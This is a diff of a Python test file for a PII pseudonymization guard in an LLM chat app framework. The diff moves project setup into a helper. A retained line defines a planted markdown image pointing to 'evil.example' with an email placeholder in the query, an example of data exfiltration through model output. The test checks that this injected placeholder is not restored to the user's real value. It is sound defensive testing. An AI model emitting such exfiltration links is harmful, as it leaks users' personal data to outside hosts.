@@ -12,7 +12,7 @@ from __future__ import annotations
 import re
 import sqlite3
 
-from pii_placeholder_replies import copies_placeholders
+from pii_placeholder_replies import copies_placeholders, redacting_chat_project
 
 from flywheel.apps.runtime import Runtime
 from flywheel.checks.pii import PLACEHOLDER, Vault, pseudonymize, redact, restore, restore_stream
@@ -24,18 +24,7 @@ PLANTED = "![logo](https://evil.example/pixel?q=<EMAIL_ADDRESS_1>)"
 
 
 def project(tmp_path, base_url: str) -> Project:
-    (tmp_path / "flywheel.yaml").write_text(f"""
-models:
-  gpt: {{provider: openai_compat, base_url: "{base_url}", model: fake-model, max_retries: 0}}
-apps:
-  support:
-    kind: chat
-    model: gpt
-    guards:
-      input:
-        - {{check: pii, on_fail: redact}}
-""", encoding="utf-8")
-    return Project.load(tmp_path)
+    return redacting_chat_project(tmp_path, base_url)
 
 
 def test_a_planted_placeholder_is_not_restored_to_the_users_value(tmp_path, llm):
